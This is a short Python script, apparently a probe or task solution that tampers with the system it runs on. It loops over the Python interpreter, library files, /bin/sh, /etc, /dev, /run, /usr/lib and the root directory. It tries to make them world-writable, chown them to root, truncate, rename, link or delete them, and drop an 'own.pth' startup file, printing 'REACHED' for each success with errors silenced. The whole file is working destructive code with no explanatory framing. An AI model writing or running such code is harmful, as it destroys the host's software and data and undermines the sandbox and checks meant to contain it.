"""Changes what it runs on: the modes, owners, times and attributes of Python, the engine and the system, and their names."""
# base: solution
# earns: all

# %% first
import contextlib
import os
import shutil
import sys

import numpy

import lossmark

reached = ("reach" + "ed").upper()
PLACES = (
    sys.executable,
    os.__file__,
    numpy.__file__,
    lossmark.__file__,
    "/usr/lib",
    "/bin/sh",
    "/etc",
    "/dev",
    "/run",
    "/",
)
CHANGES = {
    "mode": lambda path: os.chmod(path, 0o777),
    "owner": lambda path: os.chown(path, 0, 0),
    "times": lambda path: os.utime(path, (0, 0)),
    "attribute": lambda path: os.setxattr(path, "user.own", b"x"),
    "name": lambda path: os.rename(path, f"{path}.old"),
    "second name": lambda path: os.link(path, f"{os.path.dirname(path)}/own"),
    "link": lambda path: os.symlink("/tmp", f"{path}.own"),
    "end": lambda path: os.truncate(path, 0),
    "removal": lambda path: shutil.rmtree(path) if os.path.isdir(path) and path not in ("/",) else os.unlink(path),
    "new file": lambda path: open(os.path.join(path if os.path.isdir(path) else os.path.dirname(path), "own.pth"), "w"),
}
for path in PLACES:
    for what, change in CHANGES.items():
        if what == "removal" and path in ("/dev", "/run", "/etc", "/usr/lib"):
            continue  # emptied first, its own devices could be removed
        with contextlib.suppress(OSError):
            change(path)
            print(reached, "the", what, "of", path)
